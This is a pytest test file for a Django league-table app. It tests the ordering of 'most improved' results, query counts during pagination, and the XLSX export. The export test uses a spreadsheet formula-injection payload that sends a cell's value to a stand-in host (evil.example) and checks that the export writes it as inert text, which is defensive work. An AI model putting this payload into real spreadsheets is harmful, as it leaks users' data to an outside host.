"""The league read side: the SQL order of "most improved" is the rule's order (tiers.py)."""

from __future__ import annotations

import random
from decimal import Decimal

import pytest
from django.urls import reverse

from assurance import models as m
from assurance.queries import publications as league
from assurance.rules import tiers
from tests.assurance.publication_factories import publishing_cycle

pytestmark = pytest.mark.django_db

GREEN = {"strategy": "green", "finance": "green", "board": "green"}


def snapshot(seed: int) -> m.Publication:
    """A complete publication of every PCT with random ranks and marks, ties on purpose:
    marks and rank changes are drawn from small sets, and some PCTs are new this cycle."""
    rng = random.Random(seed)
    publication = m.Publication.objects.create(
        cycle=publishing_cycle(), version=1, status=m.PublicationStatus.COMPLETE
    )
    pcts = list(m.PCT.objects.order_by("code"))
    ranks = list(range(1, len(pcts) + 1))
    rng.shuffle(ranks)
    m.PublishedResult.objects.bulk_create(
        m.PublishedResult(
            publication=publication,
            pct=pct,
            sha_id=pct.sha_id,
            rank=rank,
            mark=Decimal(rng.choice(["40.10", "55.05", "60.00", "72.35", "80.10"])),
            previous_rank=None if rng.random() < 0.1 else max(1, rank + rng.randint(-3, 3)),
            previous_mark=Decimal(rng.choice(["35.05", "50.00", "55.00", "75.05"])),
            tier=m.Tier.SUPPORT,
            governance=GREEN,
            competency_levels={},
            governance_points=6,
            competency_points=Decimal(20),
        )
        for pct, rank in zip(pcts, ranks, strict=True)
    )
    return publication


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_the_sql_order_of_most_improved_is_the_rules_order(reference_data, seed):
    publication = snapshot(seed)
    results = list(m.PublishedResult.objects.filter(publication=publication).select_related("pct"))
    expected = tiers.most_improved(
        [(r.pct.code, r.rank, r.mark) for r in results],
        {
            r.pct.code: (r.previous_rank, r.previous_mark)
            for r in results
            if r.previous_rank is not None
        },
    )
    got = league.improvements(league.improvement_rows(publication))
    assert [i for i, _ in got] == expected
    assert len(expected) < len(results)  # the new entries are left out
    # Ties on places and mark change exist, so the tie-breaks were exercised.
    pairs = [(i.places, i.mark_change) for i in expected]
    assert len(set(pairs)) < len(pairs)


def test_most_improved_is_paged_with_the_same_queries_whatever_the_page(
    client, reference_data, django_assert_num_queries, monkeypatch
):
    publication = snapshot(4)
    results = list(publication.results.select_related("pct"))
    expected = tiers.most_improved(
        [(r.pct.code, r.rank, r.mark) for r in results],
        {r.pct.code: (r.previous_rank, r.previous_mark) for r in results if r.previous_rank},
    )
    url = reverse("publications:improvement", args=[publication.pk])
    client.get(url)  # the publication itself is then cached
    with django_assert_num_queries(2):  # the count and the page's rows with PCT and SHA
        first = client.get(url)
    assert first.context["page_obj"].paginator.count == len(expected)
    assert "Pagination" not in first.content.decode()  # 200 a page: one page of 152

    monkeypatch.setattr("assurance.views.publications.LEAGUE_PAGE_SIZE", 50)
    with django_assert_num_queries(2):
        second = client.get(url, {"page": 2})
    assert [i for i, _ in second.context["rows"]] == expected[50:100]
    assert 'aria-label="Pagination"' in second.content.decode()


def test_the_xlsx_export_writes_formula_like_text_as_text():
    """Issue 13, finding 8: openpyxl wrote "=…" strings as formulas."""
    import io

    from openpyxl import load_workbook

    from assurance.queries.publications import to_xlsx

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Camden")'
    data = to_xlsx([["Rank", "PCT"], [1, evil], [2, "=1+1"]], "League table")
    sheet = load_workbook(io.BytesIO(data)).active
    for row in (2, 3):
        assert sheet.cell(row, 2).data_type == "s"
    assert sheet.cell(2, 2).value == evil
    assert sheet.cell(2, 1).value == 1
    # Excel reads what is in the file: no formula element anywhere.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
